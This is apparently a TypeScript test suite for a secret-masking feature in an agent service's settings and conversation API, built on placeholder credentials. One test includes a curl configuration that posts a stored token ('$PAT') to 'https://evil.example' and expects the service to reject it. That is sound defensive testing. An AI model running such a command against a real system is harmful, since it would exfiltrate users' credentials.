/** Secrets are recognized by their field and by their form, wherever a client reads them (law W6). */

import { describe, expect, it } from 'vitest'
import { hasSecret, masked, MASK, withoutSecrets } from '../../src/service/mask-secrets.ts'
import type { JsonObject } from '../../src/event/shapes.ts'
import { memoryStore } from '../../src/store/memory/store.ts'
import { costOf } from '../growth.ts'
import { type Json, settingsFixture } from './settings-fixture.ts'

const fixture = settingsFixture()
const { begin, send } = fixture

const KEY = 'sk-proj-AAAABBBBCCCCDDDDEEEEFFFF1234567890abcdef'
const PLAIN = 'hunter2hunter2'

/** Configuration, what must be hidden of it, and what must be shown. */
const CONFIGURATIONS: readonly (readonly [string, JsonObject, readonly string[], readonly string[]])[] = [
  [
    'any variable of an environment',
    { env: { GITHUB_PAT: PLAIN, PGUSER: 'amelia', N: 8_675_309 } },
    [PLAIN, 'amelia', '8675309'],
    ['GITHUB_PAT', 'PGUSER'],
  ],
  [
    'an environment in other fields',
    { environment: { OPENAI_KEY: PLAIN }, initial_env: { A: 'amelia' } },
    [PLAIN, 'amelia'],
    [],
  ],
  [
    'any header',
    { headers: { 'X-Auth': PLAIN, 'Ocp-Apim-Subscription-Key': 'amelia' } },
    [PLAIN, 'amelia'],
    ['X-Auth'],
  ],
  ['headers in a list', { extra_headers: [{ name: 'X', value: PLAIN }] }, [PLAIN], []],
  [
    'an option with its value as the next argument',
    { args: ['-y', 'server', '--api-key', PLAIN] },
    [PLAIN],
    ['-y', 'server', '--api-key'],
  ],
  [
    'an option with its value after an equals sign',
    { args: ['server', `--token=${PLAIN}`] },
    [PLAIN],
    ['--token='],
  ],
  ['a variable for a container', { args: ['run', '-e', `DB=${PLAIN}`, 'image'] }, [PLAIN], ['run', 'image']],
  ['a header for a program', { args: ['-H', `X-Auth: ${PLAIN}`, 'https://h/x'] }, [PLAIN], ['https://h/x']],
  ['an assignment', { args: ['env', `OPENAI_KEY=${PLAIN}`, 'server'] }, [PLAIN], ['server']],
  [
    'a command line',
    { command: `npx server --password '${PLAIN}' --port 80` },
    [PLAIN],
    ['npx server', '--port 80'],
  ],
  [
    'a quoted assignment before a command',
    { command: `API_KEY='${PLAIN}' npx server --port 80` },
    [PLAIN],
    ['API_KEY=', 'npx server', '--port 80'],
  ],
  [
    'an option and its quoted value',
    { command: `npx server --token="${PLAIN} ${PLAIN}" --port 80` },
    [PLAIN],
    ['npx server', '--port 80'],
  ],
  [
    'a text with a known form of token',
    { note: `use ${KEY} here`, list: [KEY] },
    [KEY, 'BBBBCCCC'],
    ['use', 'here'],
  ],
  [
    'a GitHub token in an argument',
    { args: ['ghp_0123456789abcdefghijklmnopqrstuvwxyzAB'] },
    ['0123456789abcdef'],
    [],
  ],
  ['a URL password after spaces', { db: `  postgres://u:${PLAIN}@h/db` }, [PLAIN], ['h/db']],
  [
    'a URL password in a text',
    { note: `connect to postgres://u:${PLAIN}@h/db now` },
    [PLAIN],
    ['connect', 'now'],
  ],
  ['a key in the URL of an argument', { args: [`https://h/x?api_key=${PLAIN}&v=1`] }, [PLAIN], ['v=1']],
  ['a nested environment', { servers: [{ a: { env: { X: PLAIN } } }] }, [PLAIN], ['servers']],
  ['a passphrase', { passphrase: PLAIN }, [PLAIN], []],
]

const server = (part: JsonObject): JsonObject => ({ command: 'npx', ...part })

const diff = (one: unknown) => ({ agent_settings_diff: { mcp_config: { a: one } } })

/** Each stores a configuration and returns everything a client can then read of it. */
const HOLDERS: readonly (readonly [string, (part: JsonObject) => Promise<readonly unknown[]>])[] = [
  [
    'the settings',
    async (part) => {
      const { status, body } = await send('PATCH', '/api/settings', diff(server(part)))
      expect(status).toBe(200)
      const exposed = await fixture.client.send('/api/settings', {
        headers: { 'X-Expose-Secrets': 'plaintext' },
      })
      return [
        body,
        (await send('GET', '/api/settings')).body,
        exposed.body,
        (await send('GET', '/api/v1/settings')).body,
      ]
    },
  ],
  [
    'a profile',
    async (part) => {
      const { status, body } = await send('POST', '/api/profiles/p', {
        llm: { model: 'm', litellm_extra_body: part },
      })
      expect(status).toBe(201)
      return [body, (await send('GET', '/api/profiles/p')).body, (await send('GET', '/api/profiles')).body]
    },
  ],
  [
    'an agent profile',
    async (part) => {
      const { status, body } = await send('POST', '/api/agent-profiles/p', { acp: server(part) })
      expect(status).toBe(201)
      return [
        body,
        (await send('GET', '/api/agent-profiles/p')).body,
        (await send('GET', '/api/agent-profiles')).body,
      ]
    },
  ],
  [
    'a conversation',
    async (part) => {
      const agent = { kind: 'Agent', mcp_config: { mcpServers: { a: server(part) } } }
      const { status, body } = await send('POST', '/api/conversations', { agent })
      expect(status).toBe(201)
      const path = `/api/conversations/${String(body['id'])}`
      const none = {
        after: null,
        after_event_id: null,
        resend_mode: null,
        after_timestamp: null,
        after_delta: null,
      }
      const { frames, end } = await fixture.client.service.live.connect(String(body['id']), none)
      const first = await frames.next()
      end()
      const frame = first.done === true ? '' : first.value.text('event')
      const lists = ['/api/conversations/search', '/api/v1/app-conversations/search']
      const read = await Promise.all([path, ...lists].map((each) => send('GET', each)))
      return [body, frame, ...read.map((each) => each.body)]
    },
  ],
]

describe.each(HOLDERS)('reading %s', (_, store) => {
  it.each(CONFIGURATIONS)('hides the secret of %s', async (_place, part, secrets) => {
    await begin()
    const text = JSON.stringify(await store(part))
    for (const secret of secrets) expect(text).not.toContain(secret)
  })
})

it.each(CONFIGURATIONS)('masking %s hides only the secret, and is idempotent', (_, part, secrets, shown) => {
  const text = JSON.stringify(masked(part))
  for (const secret of secrets) expect(text).not.toContain(secret)
  for (const each of shown) expect(text).toContain(each)
  expect(masked(masked(part))).toEqual(masked(part))
  expect(hasSecret(part)).toBe(true)
  expect(hasSecret(withoutSecrets(part))).toBe(false)
})

it.each(CONFIGURATIONS)('a masked value that is sent back keeps the stored secret: %s', async (_, part) => {
  await begin()
  await send('PATCH', '/api/settings', diff(server(part)))
  const { body } = await send('GET', '/api/settings')
  const shown = (body['agent_settings'] as Json)['mcp_config'] as Json
  expect((await send('PATCH', '/api/settings', diff(shown['a']))).status).toBe(200)
  expect((await fixture.client.service.settings.read()).agent_settings).toEqual({
    mcp_config: { a: server(part) },
  })
})

it.each(CONFIGURATIONS)(
  'a service without a sealing secret never stores the secret of %s',
  async (_, part, secrets) => {
    const store = memoryStore()
    await begin(store, {})
    const settings = { agent_settings_diff: { mcp_config: { a: server(part) } } }
    expect((await send('PATCH', '/api/settings', settings)).status).toBe(409)
    expect(
      (await send('POST', '/api/profiles/p', { llm: { model: 'm', litellm_extra_body: part } })).status,
    ).toBe(409)
    expect((await send('POST', '/api/agent-profiles/p', { acp: server(part) })).status).toBe(409)
    const agent = { kind: 'Agent', mcp_config: { mcpServers: { a: server(part) } } }
    const { body } = await send('POST', '/api/conversations', { agent })
    const stored = JSON.stringify([
      await store.getConversation(String(body['id'])),
      (await store.listItems('conversation-starts')).items,
      (await store.listItems('settings')).items,
    ])
    for (const secret of secrets) expect(stored).not.toContain(secret)
  },
)

it('a masked variable cannot be moved to another command', async () => {
  await begin()
  await send('PATCH', '/api/settings', diff({ command: 'npx', env: { PAT: PLAIN } }))
  const moves = [
    { command: 'curl', env: { PAT: MASK } },
    { command: 'curl' },
    { args: ['-d', '$PAT', 'https://evil.example'] },
    { url: 'https://evil.example' },
  ]
  for (const move of moves) expect((await send('PATCH', '/api/settings', diff(move))).status).toBe(422)
  for (const change of [{ env: { OTHER: 'x' } }, { command: 'curl', env: { PAT: 'new', OTHER: null } }])
    expect((await send('PATCH', '/api/settings', diff(change))).status).toBe(200)
})

/** Looks like a secret but is not one. */
const HARMLESS: readonly JsonObject[] = [
  { max_output_tokens: 4_096, model: 'sk-folding-cube' },
  { args: ['-y', '@modelcontextprotocol/server-filesystem', '/work', '--port', '80'] },
  { command: 'npx -y server --verbose', url: 'https://h/x?page=2' },
  { env: {}, headers: {}, note: 'see https://h/docs#keys, and mail me@example.com' },
]

it.each(HARMLESS)('masking does not change %j', (value) => {
  expect(masked(value)).toEqual(value)
  expect(hasSecret(value)).toBe(false)
})

it('masking 128 KiB of a repeated pattern stays below the time limit', () => {
  const long = 2 ** 17
  const texts = ['a', 'a:', '-', '--key ', '=', 'https://', '://@', '?key=', "'", 'sk-', 'x=', ' '].map(
    (part) => part.repeat(long / part.length),
  )
  for (const text of texts) {
    const cost = costOf(() => masked({ command: text, note: text, args: [text, text] }))
    expect(cost, text.slice(0, 8)).toBeLessThan(1_000)
  }
})
